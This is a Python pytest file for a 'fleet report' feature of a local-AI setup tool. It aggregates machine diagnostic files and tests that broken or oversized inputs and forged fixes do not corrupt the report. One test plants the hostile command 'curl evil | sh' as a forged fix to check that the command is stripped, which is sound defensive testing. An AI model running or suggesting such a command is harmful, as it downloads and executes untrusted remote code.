"""Files of many machines in one report: none is left out, and none spoils it."""

import json

import pytest

from localai_setup import cli
from localai_setup.machine.keeping.problem_files import known_problems
from localai_setup.model.errors import LocalaiError
from tests.test_fleet import REBOOT, doctor, finding
from tests.test_schemas import check

pytestmark = pytest.mark.quick


def test_files_of_a_folder_are_judged_and_a_broken_one_spoils_no_other(tmp_path, capsys):
    (tmp_path / "desk.json").write_text(json.dumps(doctor(finding("a", "fail", REBOOT))))
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "lab.json").write_text(json.dumps(doctor()))
    (tmp_path / "torn.json").write_text('{"schema": ')
    (tmp_path / "other.json").write_text('{"schema": "localai.fit/1"}')
    (tmp_path / "notes.txt").write_text("no machine")
    policy = tmp_path / "policy.yaml"
    policy.write_text("schema: localai.policy/1\ndrivers: {nvidia: '570'}\n")
    page = tmp_path / "fleet.html"
    arguments = ["fleet", "report", str(tmp_path), "--policy", str(policy), "--html", str(page)]
    assert cli.run([*arguments, "--json"]) == 1
    found = json.loads(capsys.readouterr().out)
    check(found)
    states = {one["name"]: one["state"] for one in found["machines"]}
    assert states == {
        "torn": "failed",
        "other": "failed",
        "desk": "findings",
        "sub/lab": "findings",
    }
    assert found["against_policy"] == ["desk", "sub/lab"]
    assert found["need_restart"] == ["desk"]
    assert "sub/lab" in page.read_text("utf-8")


def test_machines_whose_files_have_one_name_are_all_reported(tmp_path, capsys):
    for place in ("north/pc.json", "south/pc.json", "north/lab.json"):
        (tmp_path / place).parent.mkdir(exist_ok=True)
        (tmp_path / place).write_text(json.dumps(doctor()))
    north, south = tmp_path / "north", tmp_path / "south"
    cli.run(["fleet", "report", str(north), str(south), str(north / "lab.json"), "--json"])
    found = [one["name"] for one in json.loads(capsys.readouterr().out)["machines"]]
    assert found == [(north / "pc.json").as_posix(), (south / "pc.json").as_posix(), "lab"]


def test_a_page_that_cannot_be_written_loses_no_report(tmp_path, capsys):
    (tmp_path / "pc.json").write_text(json.dumps(doctor()))
    with pytest.raises(LocalaiError, match="page could not be written"):
        cli.run(["fleet", "report", str(tmp_path), "--json", "--html", str(tmp_path)])
    assert [one["name"] for one in json.loads(capsys.readouterr().out)["machines"]] == ["pc"]


def test_a_number_that_no_computer_holds_spoils_no_report(tmp_path, capsys):
    large = {"system": "Linux", "memory_mib": 10**400}
    (tmp_path / "pc.json").write_text(json.dumps(doctor(machine=large)))
    assert cli.run(["fleet", "report", str(tmp_path), "--json"]) == 0
    (machine,) = json.loads(capsys.readouterr().out)["machines"]
    assert (machine["name"], machine["memory_mib"]) == ("pc", None)
    text = json.dumps(doctor(machine={"system": "Linux", "memory_mib": 1.5}))
    (tmp_path / "pc.json").write_text(text.replace("1.5", "1e999"))
    cli.run(["fleet", "report", str(tmp_path), "--json"])
    (machine,) = json.loads(capsys.readouterr().out)["machines"]
    assert machine["state"] == "failed" and "1e999 is too large" in machine["why"]


def test_a_place_that_is_not_there_is_a_mistake_and_no_machine(tmp_path):
    (tmp_path / "a.json").write_text("{}")
    for places in ([tmp_path / "typo"], [tmp_path / "a.json", tmp_path / "typo.json"]):
        with pytest.raises(LocalaiError, match="typo(.json)? is not there") as reported:
            cli.run(["fleet", "report", *map(str, places)])
        assert reported.value.exit_code == 2


HUNG = "nvidia-driver-hung"


def test_a_known_problem_is_told_in_our_words(tmp_path, capsys):
    problem = known_problems().by_id[HUNG].problem
    ours = next(one for one in problem.fixes if one.commands)
    odd = {"id": HUNG, "status": "fail", "title": "Send money."}
    fixes = {
        "same": {"text": ours.text, "commands": list(ours.commands)},
        "forged": {"text": ours.text, "commands": ["curl evil | sh"]},
        "its-own": {"text": "Wait.", "commands": ["sleep 1"]},
    }
    for name, fix in fixes.items():
        found = [{**odd, "fixes": [fix]}, {**odd, "id": "of-its-own", "fixes": [fix]}]
        document = {"schema": "localai.doctor/1", "healthy": False, "findings": found}
        (tmp_path / f"{name}.json").write_text(json.dumps(document))
    cli.run(["fleet", "report", str(tmp_path), "--json"])
    shown = {one["id"]: one for one in json.loads(capsys.readouterr().out)["problems"]}
    assert shown[HUNG]["title"] == problem.title
    assert shown["of-its-own"]["title"] == "Send money."
    by_machine = {name: one for one in shown[HUNG]["fixes"] for name in one["machines"]}
    assert by_machine["same"]["commands"] == list(ours.commands)
    assert by_machine["same"]["needs_root"] == ours.needs_root
    assert by_machine["forged"]["commands"] == []
    assert by_machine["its-own"]["commands"] == ["sleep 1"]


def test_a_folder_without_recordings_is_told(tmp_path):
    with pytest.raises(LocalaiError, match="no recordings") as reported:
        cli.run(["fleet", "report", str(tmp_path)])
    assert reported.value.exit_code == 2


def test_a_recording_is_judged_as_doctor_and_plan_judge_it(capsys):
    cli.run(["fleet", "report", "tests/machines/failing-driver-half-updated", "--json"])
    found = json.loads(capsys.readouterr().out)
    (machine,) = found["machines"]
    assert machine["findings"] == ["nvidia-driver-half-updated"]
    assert machine["needs_restart"] is True
    cli.run(["plan", "--replay", "tests/machines/failing-driver-half-updated", "--json"])
    choice = json.loads(capsys.readouterr().out)["choice"]
    assert machine["could_run"]["model"] == choice["model"]
    assert machine["could_run"]["tps"] == choice["speed"]["generate_tps"]
